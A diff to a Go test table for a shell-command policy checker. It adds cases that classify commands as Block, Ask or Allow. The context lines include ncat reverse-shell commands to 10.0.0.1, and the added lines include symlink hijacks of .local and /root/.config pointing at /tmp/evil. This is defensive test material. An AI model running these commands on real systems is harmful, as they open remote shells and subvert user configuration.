@@ -52,6 +52,9 @@ func TestLead62SystemSpellings(t *testing.T) {
 		{`ncat --ex /bin/bash 10.0.0.1 4444`, dsl.Block, dsl.Block},
 		{`ncat --sh-e bash 10.0.0.1 4444`, dsl.Block, dsl.Block},
 		{`zpool create -f tank mirror sdb sdc`, dsl.Block, dsl.Block},
+		{`ln -sfn /tmp/evil /home/u/.local`, dsl.Ask, dsl.Block},
+		{`mv /home/u/.config /home/u/.config.old`, dsl.Ask, dsl.Block},
+		{`ln -sfn /tmp/evil /root/.config`, dsl.Ask, dsl.Block},
 		// reads, listings, memory devices, image files, a project's own words
 		{`cd /etc && sudo vim hosts`, dsl.Allow, dsl.Allow},
 		{`cd /etc && grep -r nginx .`, dsl.Allow, dsl.Allow},
@@ -63,5 +66,7 @@ func TestLead62SystemSpellings(t *testing.T) {
 		{`zpool create tank sdb`, dsl.Allow, dsl.Allow},
 		{`zpool create -f tank /tmp/d.img`, dsl.Allow, dsl.Allow},
 		{`cp -r /tmp/x/. ./vendor/`, dsl.Allow, dsl.Allow},
+		{`rm -rf /home/u/proj/build`, dsl.Allow, dsl.Allow},
+		{`ln -s /home/u/proj/x y`, dsl.Allow, dsl.Allow},
 	})
 }
